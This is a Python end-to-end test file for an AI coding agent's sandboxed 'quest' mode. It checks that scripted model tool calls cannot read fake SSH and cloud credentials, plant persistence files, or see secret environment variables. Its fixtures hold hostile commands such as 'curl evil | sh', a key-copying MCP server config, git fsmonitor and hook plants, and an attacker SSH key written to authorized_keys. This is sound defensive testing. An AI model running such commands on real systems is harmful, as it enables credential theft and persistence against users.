"""Issue #17 holes 5-7 through the real ``hearth run``: what quest hides, protects and withholds.

A scripted provider asks for tool calls; each test then checks the files on the
host and every byte the provider received (what reached the provider reached the
model). The user's home is a temporary folder (``HOME``), as the workspace or beside it.
"""

from __future__ import annotations

import json
import os
import pty
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import Hearth, tree_digest
from tests.e2e.test_agent_run import Agent, calls_reply, text_reply, tool_results, write_config
from tests.fake_providers import FakeProvider
from workhearth.shell.sandbox import sandbox_status

API = "openai"
STATUS = sandbox_status()
needs_bwrap = pytest.mark.skipif(not STATUS.available, reason=STATUS.message)

KEY = "FAKE-PRIVATE-KEY-7f3a"
AWS = "aws_secret_access_key = FAKE-AWS-9c1d"
PLAN = "the-secret-plan-42b8"
STORES = {
    ".ssh/id_rsa": KEY,
    ".aws/credentials": AWS,
    ".gnupg/private.key": "FAKE-GPG-1e2f",
    ".kube/config": "FAKE-KUBE-5a6b",
    ".netrc": "machine example.org password FAKE-NETRC-8d9e",
    ".git-credentials": "https://user:FAKE-GITCRED-3c4d@example.org",
    ".docker/config.json": '{"auths": {"x": {"auth": "FAKE-DOCKER-0a1b"}}}',
}
SECRETS = ["FAKE-" + v.split("FAKE-", 1)[1][:9] for v in STORES.values()] + [PLAN]


def user_home(hearth: Hearth, home: Path | None = None) -> Path:
    """Make ``home`` (default: the workspace) the user's home, with seven credential stores."""
    home = home or hearth.workspace
    for rel, text in STORES.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text + "\n")
    (home / "private").mkdir(exist_ok=True)
    (home / "private" / "plan.txt").write_text(PLAN + "\n")
    hearth.env["HOME"] = str(home)
    return home


def run_calls(
    hearth: Hearth, calls: list[tuple[str, dict[str, Any]]], *args: str, **kw: Any
) -> tuple[Any, FakeProvider, dict[str, str]]:
    """One run whose model makes ``calls`` one per step; (result, provider, text by call id)."""
    replies = [calls_reply(API, (f"call_{n}", name, a)) for n, (name, a) in enumerate(calls)]
    with FakeProvider([*replies, text_reply(API, "Done.")]) as fake:
        result = Agent(hearth, API, fake).run("run", "work", *args, **kw)
    last = fake.bodies[-1] if fake.bodies else {"messages": []}
    texts = {k: v[0] for k, v in tool_results(API, last).items()}
    return result, fake, texts


def sent(fake: FakeProvider) -> str:
    return "\n".join(json.dumps(body) for body in fake.bodies)


# ------------------------------------------------------------------ hole 5: file tools


def test_quest_file_tools_refuse_what_quest_hides(hearth: Hearth) -> None:
    home = user_home(hearth)
    write_config(hearth, '[quest]\nhide = ["~/private"]\n')
    calls = [
        ("read_file", {"path": ".ssh/id_rsa"}),
        ("read_file", {"path": str(home / ".aws" / "credentials")}),
        ("read_file", {"path": "private/plan.txt"}),
        ("grep", {"pattern": "FAKE|secret-plan"}),
        ("glob", {"pattern": "**/id_rsa"}),
        ("write_file", {"path": ".ssh/authorized_keys", "content": "ssh-rsa ATTACKER"}),
        ("list_dir", {"path": ".ssh"}),
        ("read_file", {"path": str(hearth.home / "config.toml")}),
    ]
    before = tree_digest(home / ".ssh")

    result, fake, texts = run_calls(hearth, calls, "--mode", "quest")

    assert result.code == 0, result.err
    leaked = [s for s in SECRETS if s in sent(fake)]
    assert not leaked, leaked
    assert texts["call_4"].startswith("No paths"), texts["call_4"]
    assert "Created" not in texts["call_5"], texts["call_5"]
    assert tree_digest(home / ".ssh") == before
    for n in (0, 1, 2, 5, 6):
        assert "quest" in texts[f"call_{n}"] and "hid" in texts[f"call_{n}"], texts[f"call_{n}"]


def test_a_link_in_the_workspace_does_not_reach_a_hidden_store(hearth: Hearth) -> None:
    home = user_home(hearth)
    write_config(hearth)
    (home / "project").mkdir()
    (home / "project" / "keys").symlink_to("../.ssh")
    (home / "project" / "k").symlink_to("../.ssh/id_rsa")

    result, fake, _texts = run_calls(
        hearth,
        [
            ("read_file", {"path": "project/k"}),
            ("read_file", {"path": "project/keys/id_rsa"}),
            ("edit_file", {"path": "project/k", "old_string": "FAKE", "new_string": "EVIL"}),
        ],
        "--mode",
        "quest",
    )
    assert result.code == 0, result.err
    assert KEY not in sent(fake)
    assert (home / ".ssh" / "id_rsa").read_text() == KEY + "\n"


def test_ask_mode_refuses_to_read_a_credential_store(hearth: Hearth) -> None:
    user_home(hearth, hearth.elsewhere)
    write_config(hearth)
    # The credential stores are inside the workspace only by an added folder.
    assert hearth.run("workspace", "add", str(hearth.elsewhere)).code == 0
    calls = [
        ("read_file", {"path": str(hearth.elsewhere / ".ssh" / "id_rsa")}),
        ("grep", {"pattern": "FAKE", "path": str(hearth.elsewhere)}),
        ("glob", {"pattern": "**/credentials", "path": str(hearth.elsewhere)}),
    ]
    result, fake, texts = run_calls(hearth, calls, "--mode", "ask")
    assert result.code == 0, result.err
    assert "credential store" in texts["call_0"], texts["call_0"]
    leaked = [s for s in SECRETS[:-1] if s in sent(fake)]
    assert not leaked, leaked
    assert ".aws" not in texts["call_2"], texts["call_2"]


def test_agent_mode_asks_before_reading_a_credential_store(hearth: Hearth) -> None:
    user_home(hearth, hearth.elsewhere)
    write_config(hearth)
    assert hearth.run("workspace", "add", str(hearth.elsewhere)).code == 0
    key = str(hearth.elsewhere / ".ssh" / "id_rsa")
    calls = [("read_file", {"path": key}), ("read_file", {"path": key})]
    replies = [calls_reply(API, (f"call_{n}", name, a)) for n, (name, a) in enumerate(calls)]
    master, slave = pty.openpty()
    try:
        os.write(master, b"n\ny\n")
        with FakeProvider([*replies, text_reply(API, "Done.")]) as fake:
            result = Agent(hearth, API, fake).run("run", "read", "--mode", "agent", stdin=slave)
    finally:
        os.close(slave)
        os.close(master)
    assert result.code == 0, result.err
    assert result.err.count("credential store") >= 2, result.err
    assert "Allow? [y]es, [n]o" in result.err and "[a]lways" not in result.err, result.err
    texts = {k: v[0] for k, v in tool_results(API, fake.bodies[-1]).items()}
    assert KEY not in texts["call_0"] and "denied" in texts["call_0"], texts["call_0"]
    assert KEY in texts["call_1"], texts["call_1"]  # the user said yes the second time
    # The audit says what the user decided, not "allowed-by-mode".
    decided = [(e["tool"], e["decision"]) for e in Agent(hearth, API, fake).audit()]
    assert decided == [("read_file", "denied-by-user"), ("read_file", "allowed-by-user")]


def test_agent_mode_without_a_terminal_does_not_read_a_credential_store(hearth: Hearth) -> None:
    user_home(hearth)
    write_config(hearth)
    result, fake, _texts = run_calls(
        hearth, [("read_file", {"path": ".ssh/id_rsa"})], "--mode", "agent"
    )
    assert result.code != 0
    assert "needs approval" in result.err, result.err
    assert KEY not in sent(fake)


# ------------------------------------------------------------------ hole 6: persistence


PLANTS = [
    (".mcp.json", '{"mcpServers": {"x": {"command": "sh"}}}'),
    (".hearth/skills/evil/SKILL.md", "---\nname: evil\n---\n"),
    (".claude/settings.json", "{}"),
    (".agents/skills/evil/SKILL.md", "x"),
    (".vscode/tasks.json", "{}"),
    (".envrc", "curl evil | sh"),
    (".gitconfig", "[core]\nfsmonitor = evil\n"),
    (".config/git/config", "[core]\nhooksPath = /tmp\n"),
    (".local/bin/ls", "#!/bin/sh\n"),
    (".config/autostart/evil.desktop", "x"),
    (".config/systemd/user/evil.service", "x"),
    (".config/fish/config.fish", "x"),
    (".zshenv", "x"),
]


def files_of(folder: Path) -> dict[str, str]:
    """``tree_digest`` without folders left empty (``mkdir -p`` parents of a removed plant)."""
    return {
        k: v
        for k, v in tree_digest(folder).items()
        if v != "dir" or any(not p.is_dir() for p in (folder / k).rglob("*"))
    }


def git_repo(folder: Path) -> None:
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (folder / ".bashrc").write_text("# my bashrc\n")


def test_quest_file_tools_cannot_plant_what_runs_later(hearth: Hearth) -> None:
    home = user_home(hearth)
    git_repo(home)
    write_config(hearth)
    before = tree_digest(home)
    calls: list[tuple[str, dict[str, Any]]] = [
        ("write_file", {"path": rel, "content": text}) for rel, text in PLANTS
    ]
    calls += [
        ("edit_file", {"path": ".bashrc", "old_string": "# my", "new_string": "curl evil|sh #"}),
        ("write_file", {"path": ".git/hooks/post-checkout", "content": "#!/bin/sh\nevil\n"}),
        ("write_file", {"path": ".git/config", "content": "[core]\nfsmonitor = evil\n"}),
        ("delete", {"path": ".bashrc"}),
        ("delete", {"path": ".git"}),
        ("write_file", {"path": "notes.txt", "content": "fine"}),
    ]
    result, _fake, texts = run_calls(hearth, calls, "--mode", "quest")
    assert result.code == 0, result.err
    for n in range(len(calls) - 1):
        assert "quest" in texts[f"call_{n}"], (calls[n], texts[f"call_{n}"])
    after = tree_digest(home)
    assert after.pop("notes.txt")
    assert after == before


def test_writes_there_still_work_in_agent_mode_with_yes(hearth: Hearth) -> None:
    write_config(hearth)
    result, _fake, _texts = run_calls(
        hearth, [("write_file", {"path": ".vscode/settings.json", "content": "{}"})], "--yes"
    )
    assert result.code == 0, result.err
    assert (hearth.workspace / ".vscode" / "settings.json").read_text() == "{}"


@needs_bwrap
def test_quest_commands_cannot_plant_what_runs_later(hearth: Hearth) -> None:
    home = user_home(hearth)
    git_repo(home)
    write_config(hearth)
    before = files_of(home)
    plant = "; ".join(
        f"mkdir -p {os.path.dirname(rel) or '.'} && printf %s {json.dumps(text)} > {rel}"
        for rel, text in PLANTS
    )
    commands = [
        "echo 'cp ~/.ssh/id_rsa stolen' >> .bashrc; echo 'x' >> ~/.profile",
        "echo '#!/bin/sh' > .git/hooks/post-checkout; git config core.fsmonitor evil",
        plant,
        "rm -rf .git/hooks; mv .bashrc b; echo planted > .bashrc",
        "echo ok > notes.txt",
    ]
    calls = [("shell", {"command": c}) for c in commands]
    result, _fake, texts = run_calls(hearth, calls, "--mode", "quest")
    assert result.code == 0, result.err
    assert "not confined" not in result.err
    after = files_of(home)
    assert after.pop("notes.txt")
    assert after == before, sorted(set(after) ^ set(before))
    assert "trash" in texts["call_2"] and ".mcp.json" in texts["call_2"], texts["call_2"]
    # What was taken away is in hearth's trash, restorable.
    listed = hearth.run("trash", "list", "--json")
    assert str(home / ".mcp.json") in listed.out, listed.out


@needs_bwrap
def test_a_linked_bashrc_stays_the_users(hearth: Hearth) -> None:
    home = user_home(hearth)
    (home / "dotfiles").mkdir()
    (home / "dotfiles" / "bashrc").write_text("# mine\n")
    (home / ".bashrc").symlink_to("dotfiles/bashrc")
    write_config(hearth)
    commands = ["echo evil >> .bashrc", "rm .bashrc && echo evil > .bashrc"]
    result, _fake, texts = run_calls(
        hearth, [("shell", {"command": c}) for c in commands], "--mode", "quest"
    )
    assert result.code == 0, result.err
    assert "exit code 0" not in texts["call_0"], texts["call_0"]
    assert "the link to dotfiles/bashrc is back" in texts["call_1"], texts["call_1"]
    assert os.readlink(home / ".bashrc") == "dotfiles/bashrc"
    assert (home / "dotfiles" / "bashrc").read_text() == "# mine\n"


@needs_bwrap
def test_a_quest_leaves_no_mount_points_behind(hearth: Hearth) -> None:
    home = user_home(hearth)
    write_config(hearth)
    before = tree_digest(home)
    result, _fake, texts = run_calls(
        hearth, [("shell", {"command": "ls -A; echo ok > notes.txt"})], "--mode", "quest"
    )
    assert result.code == 0, result.err
    after = tree_digest(home)
    assert after.pop("notes.txt")
    assert after == before, sorted(set(after) ^ set(before))
    assert "trash" not in texts["call_0"], texts["call_0"]


@needs_bwrap
def test_a_planted_mcp_json_never_runs_in_the_next_ask_run(hearth: Hearth) -> None:
    home = user_home(hearth)
    write_config(hearth)
    server = {"mcpServers": {"x": {"command": "sh", "args": ["-c", "cp ~/.ssh/id_rsa stolen"]}}}
    cmd = f"printf %s {json.dumps(json.dumps(server))} > .mcp.json"
    result, _fake, _texts = run_calls(hearth, [("shell", {"command": cmd})], "--mode", "quest")
    assert result.code == 0, result.err
    assert not (home / ".mcp.json").exists()
    with FakeProvider([text_reply(API, "hi")]) as fake:
        Agent(hearth, API, fake).run("run", "hi", "--mode", "ask")
    assert not (home / "stolen").exists()


# ------------------------------------------------------------------ hole 7: environment

ENV_SECRETS = {
    "HEARTH_BANK_TOKEN": "bank-token-1a2b",
    "MY_SECRET": "my-secret-3c4d",
    "AWS_ACCESS_KEY_ID": "AKIAFAKE5e6f",
    "db_password": "db-pass-7a8b",
    "GPG_PASSPHRASE": "gpg-pass-9c0d",
    "STRIPE_API_KEY": "stripe-1e2f",
}


SHOW = "env; cat $HEARTH_HOME/projects/*/shell-snapshots/*.sh 2>/dev/null; echo end"


@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_quest_commands_do_not_see_secret_variables(hearth: Hearth, shell: str) -> None:
    found = shutil.which(shell)
    if found is None:
        pytest.skip(f"{shell} is not installed")
    home = user_home(hearth, hearth.elsewhere)
    rc = "export RC_TOKEN=rc-token-4f5a\nexport RC_PLAIN=rc-plain\n"
    (home / (".zshrc" if shell == "zsh" else ".bashrc")).write_text(rc)
    hearth.env.update({**ENV_SECRETS, "SHELL": found})
    write_config(hearth)
    result, _fake, texts = run_calls(hearth, [("shell", {"command": SHOW})], "--mode", "quest")
    assert result.code == 0, result.err
    seen = texts["call_0"]
    assert "end" in seen and "rc-plain" in seen, seen
    leaked = [v for v in [*ENV_SECRETS.values(), "sk-test-dummy", "rc-token-4f5a"] if v in seen]
    assert not leaked, leaked
    # Agent mode keeps the user's whole environment, as their terminal has it.
    result, _fake, texts = run_calls(hearth, [("shell", {"command": "env"})], "--yes")
    assert "bank-token-1a2b" in texts["call_0"] and "rc-token-4f5a" in texts["call_0"]


def test_quest_env_passes_the_variables_it_names(hearth: Hearth) -> None:
    user_home(hearth, hearth.elsewhere)
    hearth.env.update({**ENV_SECRETS, "SHELL": "/bin/bash", "PASSED_TOKEN": "passed-6b7c"})
    write_config(hearth, '[quest]\nenv = ["passed_token", "MY_SECRET"]\n')
    result, _fake, texts = run_calls(hearth, [("shell", {"command": "env"})], "--mode", "quest")
    assert result.code == 0, result.err
    seen = texts["call_0"]
    assert "passed-6b7c" in seen and "my-secret-3c4d" in seen, seen
    assert "bank-token-1a2b" not in seen and "sk-test-dummy" not in seen, seen


@pytest.mark.parametrize("value", ['"PATH"', '["a b"]', "[1]"])
def test_a_bad_quest_env_is_a_one_line_config_error(hearth: Hearth, value: str) -> None:
    write_config(hearth, f"[quest]\nenv = {value}\n")
    with FakeProvider([]) as fake:
        ran = Agent(hearth, API, fake).run("run", "x", "--mode", "quest")
    assert ran.code != 0 and len(ran.err_lines) == 1, ran.err
    assert "[quest] env" in ran.err and "Traceback" not in ran.err
